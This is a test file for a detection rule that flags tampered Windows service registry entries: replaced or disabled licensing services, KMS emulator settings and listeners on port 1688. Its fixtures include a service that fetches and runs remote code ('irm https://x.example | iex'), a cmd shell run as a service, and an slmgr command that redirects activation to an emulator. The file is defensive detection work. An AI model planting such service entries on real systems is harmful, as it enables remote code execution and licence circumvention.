// Services: replaced and disabled licensing services, listeners, settings of emulators; and the services of an honest Windows.
import { test } from 'uvu';
import { backgroundProgram } from '../../../rules/activation/background-program.ts';
import type { FakeSpec, FakeValue } from '../../helpers/fake-image.ts';
import { windowsRuleTester } from '../../helpers/on-windows.ts';

const key = (name: string, set = 1) => `ControlSet00${set}\\Services\\${name}`;
const image = (
  name: string,
  values: Readonly<Record<string, FakeValue>>,
  parameters?: Readonly<Record<string, FakeValue>>,
  set = 1,
): FakeSpec => ({
  SYSTEM: { Select: { Default: 1 }, [key(name, set)]: values, ...(parameters ? { [`${key(name, set)}\\Parameters`]: parameters } : {}) },
});
const at = (name: string, value: string, set = 1) => ({ hive: 'SYSTEM', key: key(name, set), name: value });

windowsRuleTester(backgroundProgram, {
  good: [
    {
      name: 'sppsvc with delayed start',
      image: image('sppsvc', { ImagePath: '%SystemRoot%\\system32\\sppsvc.exe', Start: 2, DelayedAutostart: 1 }),
    },
    {
      name: 'ClipSVC as Windows 10 has it',
      image: image(
        'ClipSVC',
        { ImagePath: '%SystemRoot%\\System32\\svchost.exe -k wsappx -p', Start: 3 },
        { ServiceDll: '%SystemRoot%\\System32\\ClipSVC.dll' },
      ),
    },
    {
      name: 'osppsvc as Office has it',
      image: image('osppsvc', {
        ImagePath: '"C:\\Program Files\\Common Files\\Microsoft Shared\\OfficeSoftwareProtectionPlatform\\OSPPSVC.EXE"',
        Start: 3,
      }),
    },
    {
      name: 'a cloud agent that manages keys',
      image: image('CloudKms', { ImagePath: '"C:\\Program Files\\Cloud\\kms.exe" --region eu-1' }),
    },
    { name: 'a number that is no port', image: image('x', { ImagePath: 'C:\\x\\x.exe --id 21688 --n 16880 v1.1688' }) },
    { name: 'one setting of such a name', image: image('relay', { ImagePath: 'C:\\x\\x.exe' }, { KMSPort: 1 }) },
    { name: 'an on-demand start from the temporary folder', image: image('x', { ImagePath: 'C:\\Windows\\Temp\\x.exe', Start: 3 }) },
    { name: 'a start of an unknown kind from the temporary folder', image: image('x', { ImagePath: 'C:\\Windows\\Temp\\x.exe' }) },
    {
      name: 'a library of a service that is none of licensing',
      image: image('x', { ImagePath: 'C:\\x.exe' }, { ServiceDll: 'C:\\x.dll' }),
    },
    { name: 'the service of Office on demand or off, which not every Windows needs', image: image('osppsvc', { Start: 4 }) },
    { name: 'a driver without a program', image: image('disk', { Start: 0, Type: 1 }) },
  ],
  bad: [
    ...['KMSPID', 'KMSHWID', 'KMSPort', 'DefaultKMSPID', 'RandomKMSPID', 'KillProcessOnPort', 'DefaultKMSHWID'].map((name) => ({
      name: `settings of an emulator: ${name} beside another one`,
      image: image('Relay', { ImagePath: 'C:\\relay.exe' }, { [name]: 1, [name === 'KMSPID' ? 'KMSPort' : 'KMSPID']: '' }),
      findings: [{ messageId: 'settings', at: { hive: 'SYSTEM', key: key('Relay') } }],
    })),
    ...['-l', '/listen', '-d', '--daemon', '-a 0.0.0.0', '-a [::]:'].map((how) => ({
      name: `told to listen by ${how}`,
      image: image('Relay', { ImagePath: `C:\\relay.exe ${how} -p 1688`.replace('[::]: -p 1688', '[::]:1688') }),
      findings: [{ messageId: 'listens', at: at('Relay', 'ImagePath') }],
    })),
    ...['sppsvc', 'slsvc', 'ClipSVC', 'osppsvc'].map((name) => ({
      name: `another program for ${name}`,
      image: image(name, { ImagePath: 'C:\\x\\y.exe' }),
      findings: [{ messageId: 'replaced', at: at(name, 'ImagePath') }],
    })),
    {
      name: 'ClipSVC switched off',
      image: image('ClipSVC', { Start: 4 }),
      findings: [{ messageId: 'disabled', at: at('ClipSVC', 'Start') }],
    },
    {
      name: 'another program and another library in the place of the licensing services',
      image: {
        SYSTEM: {
          [key('sppsvc')]: { ImagePath: 'C:\\ProgramData\\sppsvc.exe' },
          [key('ClipSVC')]: { ImagePath: '%SystemRoot%\\System32\\svchost.exe -k wsappx' },
          [`${key('ClipSVC')}\\Parameters`]: { ServiceDll: 'C:\\Windows\\clip.dll' },
        },
      },
      findings: [
        { messageId: 'replaced', at: at('sppsvc', 'ImagePath') },
        { messageId: 'library', at: { hive: 'SYSTEM', key: key('ClipSVC') } },
      ],
    },
    {
      name: 'a library for the licensing service that has none, and arguments behind its program',
      image: image('sppsvc', { ImagePath: '%SystemRoot%\\system32\\sppsvc.exe x.dll' }, { ServiceDll: 'x.dll' }),
      findings: [
        { messageId: 'replaced', at: at('sppsvc', 'ImagePath') },
        { messageId: 'library', at: { hive: 'SYSTEM', key: key('sppsvc') } },
      ],
    },
    {
      name: 'switched off, in a control set that is not loaded, too',
      image: image('sppsvc', { Start: 4 }, undefined, 2),
      findings: [{ messageId: 'disabled', at: at('sppsvc', 'Start', 2) }],
    },
    {
      name: 'settings of an emulator under an innocent name',
      image: image('Relay', { ImagePath: 'C:\\relay.exe' }, { KMSPID: '', killprocessonport: 1 }),
      findings: [{ messageId: 'settings', at: { hive: 'SYSTEM', key: key('Relay') }, level: 'certain' }],
    },
    {
      name: 'a listener, and one that only names the port',
      image: {
        SYSTEM: {
          [key('a')]: { ImagePath: 'C:\\Windows\\svchost32.exe -D -e -L 0.0.0.0:1688' },
          [key('b')]: { ImagePath: 'C:\\b\\b.exe --port=1688' },
        },
      },
      findings: [
        { messageId: 'listens', at: at('a', 'ImagePath') },
        { messageId: 'port', at: at('b', 'ImagePath'), level: 'weak' },
      ],
    },
    {
      name: 'a driver that is told the port, a program that is, and a shell as a service',
      image: {
        SYSTEM: {
          [key('a')]: { ImagePath: 'system32\\drivers\\a.sys', Type: 1 },
          [`${key('a')}\\Parameters`]: { TargetPort: 1688 },
          [key('b')]: { ImagePath: 'C:\\b\\b.exe', Type: 16 },
          [`${key('b')}\\Parameters`]: { Listen: '0.0.0.0:1688' },
          [key('c')]: { ImagePath: 'C:\\Windows\\System32\\cmd.exe /c C:\\c.cmd' },
        },
      },
      findings: [
        { messageId: 'redirects', at: { hive: 'SYSTEM', key: key('a') } },
        { messageId: 'port', at: { hive: 'SYSTEM', key: key('b') }, level: 'weak' },
        { messageId: 'interpreter', at: at('c', 'ImagePath'), level: 'weak' },
      ],
    },
    {
      name: 'what is run after a failure, and a start from the temporary folder',
      image: {
        SYSTEM: {
          [key('a')]: { ImagePath: 'C:\\a\\a.exe', FailureCommand: 'cmd /c cscript slmgr.vbs /skms 127.0.0.2' },
          [key('b')]: { ImagePath: 'C:\\Windows\\Temp\\b.exe', Start: 2 },
          [key('c')]: { ImagePath: 'powershell -c "irm https://x.example | iex"' },
        },
      },
      findings: [
        { messageId: 'activates', at: at('a', 'FailureCommand'), level: 'certain' },
        { messageId: 'fromData', at: at('b', 'ImagePath') },
        { messageId: 'fetches', at: at('c', 'ImagePath') },
      ],
    },
  ],
});

test.run();
